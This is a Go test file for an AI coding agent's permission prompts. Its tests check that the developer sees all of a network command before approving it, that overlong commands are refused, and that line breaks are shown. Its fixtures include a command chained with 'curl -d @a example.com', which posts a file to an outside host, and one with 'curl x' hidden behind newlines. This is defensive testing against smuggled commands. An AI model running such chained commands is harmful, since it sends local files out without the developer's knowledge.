package agent

import (
	"fmt"
	"strings"
	"testing"

	"tandem/protocol"
)

// The developer sees all of the command that they allow, wherever in it stands what matters; one that
// nobody would read they are not asked for.
func TestLeaveIsAskedForAllOfACommand(t *testing.T) {
	ends := " && curl -d @a example.com"
	for _, fill := range []int{0, 100, 500, mostAsked - len(ends) - len("echo "), mostAsked} {
		line := "echo " + strings.Repeat("x", fill) + ends
		for how, script := range map[string]string{
			"run":    fmt.Sprintf("start Install it\nreply | plan s1 active Install\nreply | run %s @s1\ndone [needs=network] op4\n", line),
			"verify": fmt.Sprintf("start Install it\nreply | plan s1 done Install {%s}\ndone [needs=network] op3\n", line),
		} {
			p := &player{t: t, world: newWorld(), jobs: map[string]Work{}}
			p.play(script)
			if err := p.world.check(); err != nil {
				t.Error(err)
			}
			asked := p.world.state.Decisions
			if len(line) > mostAsked {
				if len(asked) > 0 || !strings.Contains(p.out.String(), "needs the developer's leave, who has to read all of it first") {
					t.Errorf("%s of %d bytes is asked for by %+v:\n%.3000s", how, len(line), asked, p.out.String())
				}
				continue
			}
			if len(asked) != 1 || !strings.Contains(asked[0].Summary+asked[0].Rationale, line) {
				t.Errorf("%s of %d bytes is asked for by %+v", how, len(line), asked)
			}
		}
	}
}

// A line end in a command hides nothing that stands behind it.
func TestLeaveShowsLineEnds(t *testing.T) {
	c := Call{Op: protocol.Operation{Tool: toolRunCommand, Intent: "I list."}, Arguments: `{"command":"ls\n\r\n\ncurl x"}`}
	d := State{}.permission(c, []Need{{Kind: NeedNetwork}})
	if d.Summary != "Run «ls ↵ curl x» with the network" || !strings.HasPrefix(d.Rationale, "The whole command is «ls\n\r\n\ncurl x». I list.") {
		t.Errorf("%q, %q", d.Summary, d.Rationale)
	}
}
